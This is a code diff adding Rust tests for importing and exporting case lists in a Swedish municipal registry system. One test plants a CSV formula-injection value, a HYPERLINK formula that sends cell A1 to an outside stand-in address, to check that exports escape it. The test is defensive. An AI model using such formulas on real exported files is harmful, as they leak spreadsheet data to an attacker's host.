@@ -1,9 +1,14 @@
 //! A list of old cases is brought in with its numbers, and the registry goes on after them.
 
-use crate::world::{MIGRATIONS, REGISTRY_PAGE, World, content};
+use crate::world::{MIGRATIONS, OWN, REGISTRY_PAGE, World, content, registry};
 use axum::http::StatusCode;
-use samverk_cases::list_file::COLUMNS;
+use futures_util::StreamExt;
+use samverk_cases::actions::import_cases;
+use samverk_cases::list_file::{COLUMNS, read_list};
+use samverk_cases::{NumberShape, REGISTRY, RegistryDesk};
+use samverk_county::{SYSTEM, key};
 use samverk_database::Db;
+use samverk_kept::Seen;
 
 samverk_testing::db_tests!(MIGRATIONS;
     old_numbers_stay_and_the_next_goes_on,
@@ -12,6 +17,10 @@ samverk_testing::db_tests!(MIGRATIONS;
     a_list_may_lack_what_need_not_be_said,
     only_administrators_bring_in_lists,
     a_workbook_is_a_list_too,
+    a_number_of_another_registry_is_refused_and_never_stops_one,
+    numbers_that_are_passed_over_are_confirmed_first,
+    what_a_stranger_writes_is_no_formula_in_the_list,
+    a_list_is_fetched_however_it_is_packed,
 );
 
 const IMPORT: &str = "/aktorer/aneby-kommun/diarier/kommunstyrelsen/importera";
@@ -45,6 +54,23 @@ async fn send(world: &World<'_>, list: &str) -> (StatusCode, String) {
         .await
 }
 
+/// The same by somebody who has seen which numbers are passed over.
+async fn send_confirmed(world: &World<'_>, list: &str) -> (StatusCode, String) {
+    let body = format!(
+        "--zebra\r\nContent-Disposition: form-data; name=\"confirmed\"\r\n\r\ntrue\r\n\
+         --zebra\r\nContent-Disposition: form-data; name=\"file\"; filename=\"lista.csv\"\r\n\r\n{list}\r\n--zebra--\r\n"
+    );
+    let request = axum::http::Request::post(IMPORT)
+        .header("content-type", "multipart/form-data; boundary=zebra")
+        .body(axum::body::Body::from(body))
+        .unwrap();
+    world
+        .site(&world.administrator())
+        .send(request)
+        .await
+        .told()
+}
+
 async fn old_numbers_stay_and_the_next_goes_on(db: Db) {
     let world = World::of(&db).await;
     world.register(content("Redan här")).await;
@@ -63,7 +89,7 @@ async fn old_numbers_stay_and_the_next_goes_on(db: Db) {
             ("void_reason", "Registrerat två gånger."),
         ]),
     ];
-    let (status, told) = send(&world, &list(&rows)).await;
+    let (status, told) = send_confirmed(&world, &list(&rows)).await;
     assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
     let administrator = world.administrator();
     let page = world.house.page(&administrator, REGISTRY_PAGE).await;
@@ -267,4 +293,106 @@ async fn a_workbook_is_a_list_too(db: Db) {
     assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
     let page = world.house.page(&who, REGISTRY_PAGE).await;
     assert!(page.contains("2018.018 MN"), "{page}");
+}
+
+async fn a_number_of_another_registry_is_refused_and_never_stops_one(db: Db) {
+    let world = World::of(&db).await;
+    let tx = db.begin("registry").await.unwrap();
+    let owner = samverk_parties::Owner::seen_by(&SYSTEM, world.party(&tx).await);
+    let social = registry("SN", NumberShape::CodeYearNumber);
+    let kept = key("socialnamnden");
+    let saved = REGISTRY.save(&tx, &SYSTEM, &owner, kept, &social, Seen::New);
+    saved.await.unwrap();
+    tx.commit().await.unwrap();
+    // Into the social welfare committee's registry, with a number of the executive board's.
+    let stray = [row(&[
+        ("number", "KS 2026/00001"),
+        ("registered_on", "2026-11-20"),
+    ])];
+    let stray = list(&stray);
+    let there = IMPORT.replace("kommunstyrelsen", "socialnamnden");
+    let who = world.administrator();
+    let file = ("lista.csv", stray.as_bytes());
+    let (status, told) = world.send_file(&who, &there, file).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(
+        told.contains("KS 2026/00001 är ett nummer i diariet Kommunstyrelsen"),
+        "{told}"
+    );
+    // One that stood there before keeps its number, and the registry goes on after it.
+    let tx = db.begin("import_cases").await.unwrap();
+    let found = RegistryDesk::find(&tx, &SYSTEM, OWN, "socialnamnden").await;
+    let rows = read_list(stray.as_bytes(), "lista.csv", &[]).unwrap();
+    let done = import_cases(&tx, &SYSTEM, &found.unwrap(), ("lista.csv", rows)).await;
+    assert_eq!(done.unwrap().added, 1);
+    tx.commit().await.unwrap();
+    let next = world.register(content("Nästa")).await;
+    assert_eq!(next.number, "KS 2026/00002");
+    let client = crate::api::client(&db, world.registrar());
+    let all = client.get(crate::api::CASES).await.told(200);
+    assert_eq!(all.body["_meta"]["totalRecords"], 1);
+}
+
+async fn numbers_that_are_passed_over_are_confirmed_first(db: Db) {
+    let world = World::of(&db).await;
+    world.register(content("Redan här")).await;
+    let slip = list(&[row(&[
+        ("number", "KS 2026/90000"),
+        ("registered_on", "2026-11-20"),
+        ("status", "Pågår"),
+    ])]);
+    let (status, told) = send(&world, &slip).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+    for known in ["hoppar över nummer", "90000", "89998", "name=\"confirmed\""] {
+        assert!(
+            told.replace(['\u{a0}', ' '], "")
+                .contains(&known.replace(' ', "")),
+            "{known}: {told}"
+        );
+    }
+    let next = world.register(content("Nästa")).await;
+    assert_eq!(next.number, "KS 2026/00002");
+    let (status, told) = send_confirmed(&world, &slip).await;
+    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
+    let next = world.register(content("Nästa igen")).await;
+    assert_eq!(next.number, "KS 2026/90001");
+    let empty = format!("{}\n", COLUMNS.join(","));
+    let (status, told) = send(&world, &empty).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(told.contains("bara rubriker"), "{told}");
+}
+
+async fn what_a_stranger_writes_is_no_formula_in_the_list(db: Db) {
+    let world = World::of(&db).await;
+    let mut one = content("'=1+1");
+    one.counterpart = "=HYPERLINK(\"http://exempel.se\"&A1;\"Klicka\")".into();
+    world.register(one).await;
+    let who = world.administrator();
+    let all = world.site(&who).get(LIST).await.text;
+    assert!(
+        all.contains("\"'=HYPERLINK(") && all.contains("''=1+1"),
+        "{all}"
+    );
+    let (status, told) = send(&world, &all).await;
+    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
+    assert_eq!(world.site(&who).get(LIST).await.text, all);
+}
+
+async fn a_list_is_fetched_however_it_is_packed(db: Db) {
+    let world = World::of(&db).await;
+    world.register(content("Redan här")).await;
+    let who = world.administrator();
+    let request = axum::http::Request::get(LIST)
+        .body(axum::body::Body::empty())
+        .unwrap();
+    let answer = world.site(&who).answer(request).await;
+    let mut body = answer.into_body().into_data_stream();
+    let mut ends = 0;
+    // What packs an answer asks once more after its end.
+    while ends < 3 {
+        match body.next().await {
+            Some(part) => assert!(part.is_ok()),
+            None => ends += 1,
+        }
+    }
 }
